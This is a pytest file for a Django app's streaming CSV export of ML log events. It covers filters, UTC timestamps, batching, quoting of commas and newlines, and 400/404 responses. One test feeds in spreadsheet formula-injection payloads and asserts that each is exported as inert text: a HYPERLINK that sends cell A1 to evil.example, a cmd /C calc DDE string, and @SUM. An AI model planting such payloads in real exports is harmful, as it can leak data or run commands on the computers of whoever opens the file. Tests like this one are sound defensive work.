"""The ML Logs' CSV export: every matching event (not a page), the filters kept, text that
could break a row or run as a formula made harmless."""

import csv
import io
from datetime import UTC, datetime

from core.models import Event
from governance.exports import BATCH, COLUMNS
from tests.governance.test_logs_page import dataset_event, event

EXPORT = "/p/alpha/logs/export.csv"


def table(response) -> list[dict]:
    assert response.status_code == 200, response.content
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert rows[0] == COLUMNS
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]


def test_it_is_a_csv_file_of_the_filtered_events(pages_as, project, alice, bob):
    made = dataset_event(project, alice, message="by alice", data={"count": 2})
    event(project, bob, message="by bob")
    response = pages_as(alice).get(EXPORT, {"actor": "alice"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="alpha-ml-logs.csv"'
    (row,) = table(response)
    assert row["actor"] == "alice" and row["category"] == "dataset"
    assert row["object"] == "invoices" and row["object_key"] == "invoices"
    assert row["message"] == "by alice" and row["data"].replace(" ", "") == '{"count":2}'
    assert row["time"].endswith("+00:00")  # ISO 8601, in UTC
    assert datetime.fromisoformat(row["time"]) == made.time


def test_a_time_without_microseconds_is_read_back_the_same(pages_as, project, alice):
    made = event(project, alice)
    Event.objects.filter(pk=made.pk).update(time=datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC))
    (row,) = table(pages_as(alice).get(EXPORT))
    assert datetime.fromisoformat(row["time"]) == datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)


def test_every_event_not_just_a_page(pages_as, project, alice):
    template = event(project, alice, message="one of many")
    fields = {f.attname: getattr(template, f.attname) for f in Event._meta.concrete_fields}
    del fields["id"]
    Event.objects.bulk_create([Event(**fields) for _ in range(BATCH + 10)])
    rows = table(pages_as(alice).get(EXPORT))
    assert len(rows) == BATCH + 11  # more than one batch, each event once


def test_commas_quotes_and_newlines_stay_in_their_cell(pages_as, project, alice):
    tricky = 'Failed: "disk full", retried\nthen, killed'
    event(project, alice, message=tricky, object_name="a, b")
    (row,) = table(pages_as(alice).get(EXPORT))
    assert row["message"] == tricky and row["object"] == "a, b"


def test_formulas_are_written_as_text(pages_as, project, alice):
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    event(project, alice, object_name=attack, message="+1+cmd|' /C calc'!A0", object_key="@SUM")
    (row,) = table(pages_as(alice).get(EXPORT))
    assert row["object"] == "'" + attack
    assert row["message"].startswith("'+1")
    assert row["object_key"] == "'@SUM"


def test_bad_filters_are_a_400_and_outsiders_a_404(pages_as, project, alice, charlie):
    event(project, alice, message="secret")
    response = pages_as(alice).get(EXPORT, {"since": "someday"})
    assert response.status_code == 400
    assert "&#x27;someday&#x27; is not a date" in response.content.decode()
    response = pages_as(charlie).get(EXPORT)
    assert response.status_code == 404 and b"secret" not in response.content
